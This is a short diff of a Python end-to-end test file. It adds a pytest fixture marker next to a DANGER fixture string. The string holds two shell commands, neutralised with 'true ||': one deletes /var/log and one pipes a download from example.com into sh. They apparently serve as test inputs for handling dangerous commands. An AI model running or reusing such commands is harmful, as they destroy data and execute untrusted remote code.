@@ -14,6 +14,8 @@ from app.storage.tables import commands
 from tests.conftest import Stack
 from tests.e2e.command_line import CommandLine
 
+pytestmark = pytest.mark.usefixtures("plans_without_workflow")
+
 # None of it does anything.
 DANGER = (
     "# Clear\n\n- Clear: `true || rm -rf /var/log` {#clear}\n- Get: `true || curl https://example.com/x | sh` {#get}\n"
